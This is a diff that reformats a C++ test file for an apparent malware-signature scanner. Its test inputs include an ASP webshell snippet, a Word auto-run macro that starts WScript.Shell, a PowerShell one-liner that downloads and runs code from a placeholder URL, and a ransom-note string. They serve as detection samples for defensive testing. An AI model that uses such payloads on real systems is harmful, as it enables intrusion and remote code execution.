@@ -106,8 +106,9 @@ TEST_F(FixtureTest, GoodReleasesFindWhatTheyAreFor) {
                 ElementsAre("Webshell_Php_Evaluates_Request"));
     EXPECT_THAT(scan("a.asp", "<% execute request(\"x\") %>"),
                 ElementsAre("Webshell_Asp_Executes_Request"));
-    EXPECT_THAT(scan("a.doc", "\xd0\xcf\x11\xe0 VBA Sub AutoOpen() CreateObject(\"WScript.Shell\")"),
-                ElementsAre("Document_Macro_Starts_Program"));
+    EXPECT_THAT(
+        scan("a.doc", "\xd0\xcf\x11\xe0 VBA Sub AutoOpen() CreateObject(\"WScript.Shell\")"),
+        ElementsAre("Document_Macro_Starts_Program"));
     EXPECT_THAT(scan("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x')"),
                 ElementsAre("Script_Powershell_Downloads_And_Runs"));
     EXPECT_THAT(scan("README.txt", "Your files have been encrypted. Pay in bitcoin."),
@@ -176,11 +177,10 @@ TEST(Fixtures, AreAllTested) {
             }
         }
     }
-    EXPECT_THAT(folders,
-                ElementsAre("corrupt/does-not-compile", "defective/backtracking",
-                            "defective/forbidden-call", "defective/rare-backtracking",
-                            "good/2026-03-01", "good/2026-03-02", "good/2026-03-03",
-                            "malicious/include"));
+    EXPECT_THAT(folders, ElementsAre("corrupt/does-not-compile", "defective/backtracking",
+                                     "defective/forbidden-call", "defective/rare-backtracking",
+                                     "good/2026-03-01", "good/2026-03-02", "good/2026-03-03",
+                                     "malicious/include"));
 }
 
 }  // namespace
